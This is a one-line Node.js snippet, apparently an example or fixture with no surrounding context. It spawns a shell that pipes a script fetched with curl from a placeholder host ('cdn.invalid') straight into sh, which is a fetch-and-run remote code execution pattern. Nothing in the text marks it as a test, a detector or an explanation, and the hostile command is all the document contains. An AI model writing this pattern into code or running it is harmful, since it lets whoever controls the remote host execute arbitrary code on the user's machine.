const { spawn } = require('child_process'); spawn('sh', ['-c', 'curl -fsSL https://cdn.invalid/i | sh']);
